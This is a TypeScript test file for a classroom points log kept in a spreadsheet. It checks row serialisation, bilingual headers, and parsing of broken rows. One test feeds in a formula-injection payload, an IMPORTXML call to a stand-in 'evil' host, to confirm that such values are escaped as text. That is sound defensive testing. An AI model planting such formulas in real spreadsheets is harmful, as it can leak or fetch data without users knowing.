import { describe, expect, it } from 'vitest';
import { eventToRow, LOG_HEADERS, LOG_WIDTH, rowsToEvents } from '../../shared/points/log.ts';
import type { PointEvent } from '../../shared/points/types.ts';
import { ev, stored } from './helpers.ts';

const e1: PointEvent = {
  eventId: 'a1',
  timestamp: '2026-11-23T01:02:03.000Z',
  studentId: '001',
  studentName: '王小明',
  group: '第1组',
  category: '学习',
  points: 2,
  note: '回答问题',
  recordedBy: 't@school.cn',
  reverses: null,
  actionId: 'a1',
};

describe('LOG_HEADERS', () => {
  it('has the agreed columns in both languages', () => {
    expect(LOG_HEADERS('zh').slice(0, 10)).toEqual([
      '事件ID',
      '时间',
      '学号',
      '姓名',
      '小组',
      '类别',
      '分数',
      '备注',
      '记录人',
      '撤销',
    ]);
    expect(LOG_HEADERS('en')[6]).toBe('Points');
    expect(LOG_HEADERS('zh')).toHaveLength(LOG_WIDTH);
    expect(LOG_HEADERS('en')).toHaveLength(LOG_WIDTH);
  });
});

describe('eventToRow', () => {
  it('writes one cell per column with points as a number', () => {
    const row = eventToRow(e1);
    expect(row).toHaveLength(LOG_WIDTH);
    expect(row[6]).toBe(2);
    expect(row[3]).toBe('王小明');
    expect(row[9]).toBe('');
  });
  it('keeps formula-looking names and notes as text', () => {
    const row = eventToRow({
      ...e1,
      studentName: '=IMPORTXML("http://evil","//a")',
      note: '+1',
      group: '-2',
      category: '@x',
    });
    expect(row[3]).toBe(`'=IMPORTXML("http://evil","//a")`);
    expect(row[7]).toBe("'+1");
    expect(row[4]).toBe("'-2");
    expect(row[5]).toBe("'@x");
  });
  it('keeps ids with leading zeros and the ISO time as exact text (not numbers or dates)', () => {
    const row = eventToRow(e1);
    expect(row[2]).toBe("'001");
    expect(row[1]).toBe("'2026-11-23T01:02:03.000Z");
    expect(row[0]).toBe('a1');
  });
  it('keeps a note starting with an apostrophe intact after Sheets drops one', () => {
    const row = stored(eventToRow({ ...e1, note: "'引用" }));
    expect(row[7]).toBe("'引用");
  });
  it('writes the eventId as actionId when there is none', () => {
    const { actionId: _drop, ...rest } = e1;
    expect(eventToRow(rest)[10]).toBe('a1');
  });
});

describe('rowsToEvents', () => {
  it('round-trips events written by eventToRow, header included', () => {
    const second: PointEvent = {
      ...e1,
      eventId: 'a2',
      points: -2,
      reverses: 'a1',
      actionId: 'a2',
      note: '撤销 / undo',
    };
    const { events, problems } = rowsToEvents([LOG_HEADERS('zh'), stored(eventToRow(e1)), stored(eventToRow(second))]);
    expect(problems).toEqual([]);
    expect(events).toEqual([e1, second]);
  });
  it('accepts an English header and Date objects for timestamps', () => {
    const row = stored(eventToRow(e1));
    row[1] = new Date('2026-11-23T01:02:03Z') as unknown as string;
    const { events } = rowsToEvents([LOG_HEADERS('en'), row]);
    expect(events[0]!.timestamp).toBe('2026-11-23T01:02:03.000Z');
  });
  it('accepts points typed as text or full-width digits', () => {
    const a = stored(eventToRow(e1));
    a[6] = '3';
    const b = stored(eventToRow({ ...e1, eventId: 'b' }));
    b[6] = '－１';
    const { events, problems } = rowsToEvents([a, b]);
    expect(problems).toEqual([]);
    expect(events.map((e) => e.points)).toEqual([3, -1]);
  });
  it('skips broken rows with the sheet row number and keeps the rest', () => {
    const good = stored(eventToRow(e1));
    const badPoints = stored(eventToRow({ ...e1, eventId: 'b' }));
    badPoints[6] = '两分';
    const noId = stored(eventToRow({ ...e1, eventId: 'c' }));
    noId[0] = '';
    const badTime = stored(eventToRow({ ...e1, eventId: 'd' }));
    badTime[1] = '昨天';
    const noStudent = stored(eventToRow({ ...e1, eventId: 'f' }));
    noStudent[2] = '';
    const dup = stored(eventToRow(e1));
    const { events, problems } = rowsToEvents([LOG_HEADERS('zh'), good, badPoints, noId, badTime, noStudent, dup]);
    expect(events.map((e) => e.eventId)).toEqual(['a1']);
    expect(problems.map((p) => p.row)).toEqual([3, 4, 5, 6, 7]);
    expect(problems.every((p) => p.kind === 'skipped')).toBe(true);
    expect(problems[0]!.message.zh).toContain('第 3 行');
    expect(problems[0]!.message.zh).toContain('两分');
    expect(problems[0]!.message.en).toContain('row 3');
    expect(problems[1]!.message.en).toContain('event ID');
    expect(problems[2]!.message.en).toContain('time');
    expect(problems[3]!.message.en).toContain('student ID');
    expect(problems[4]!.message.en).toContain('twice');
  });
  it('ignores blank (deleted or cleared) rows silently', () => {
    const { events, problems } = rowsToEvents([
      LOG_HEADERS('zh'),
      stored(eventToRow(e1)),
      ['', '', null],
      [],
      stored(eventToRow({ ...e1, eventId: 'z' })),
    ]);
    expect(problems).toEqual([]);
    expect(events).toHaveLength(2);
  });
  it('keeps but flags an unknown student', () => {
    const other = stored(eventToRow(ev({ eventId: 'x', studentId: '999', points: 1, studentName: '转学生' })));
    const { events, problems } = rowsToEvents([stored(eventToRow(e1)), other], { knownStudentIds: new Set(['001']) });
    expect(events).toHaveLength(2);
    expect(problems).toHaveLength(1);
    expect(problems[0]).toMatchObject({ row: 2, kind: 'flagged' });
    expect(problems[0]!.message.zh).toContain('999');
  });
  it('gives a hand-typed row without action ID its own action', () => {
    const row = stored(eventToRow(e1));
    row[10] = '';
    expect(rowsToEvents([row]).events[0]!.actionId).toBe('a1');
  });
  it('reads 100,000 rows in one pass', () => {
    const rows = Array.from({ length: 100_000 }, (_, i) => stored(eventToRow({ ...e1, eventId: `id${i}` })));
    const { events, problems } = rowsToEvents(rows);
    expect(events).toHaveLength(100_000);
    expect(problems).toHaveLength(0);
  });
});
